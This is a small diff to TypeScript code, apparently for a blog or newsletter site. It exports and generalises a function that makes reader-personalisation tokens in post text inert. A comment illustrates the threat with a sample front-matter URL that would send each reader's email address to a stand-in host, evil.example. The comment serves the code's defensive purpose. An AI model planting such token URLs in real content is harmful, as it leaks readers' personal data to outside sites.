@@ -110,7 +110,7 @@ function toPost(fields: z.infer<typeof frontMatterSchema>, date: Date, body: str
  * rendering; written into a post (`url: https://evil.example/?e=zzpersonalemailzz`) they would hand
  * every reader's address and links to another site. In post text they are made inert.
  */
-function inertPost(post: Post): Post {
+export function inertPost<T extends Omit<Post, 'slug' | 'date'>>(post: T): T {
   const inert = (text: string) => text.replace(TOKEN_PATTERN, (token) => token.replace(/^zz/, 'zz-'));
   return {
     ...post,
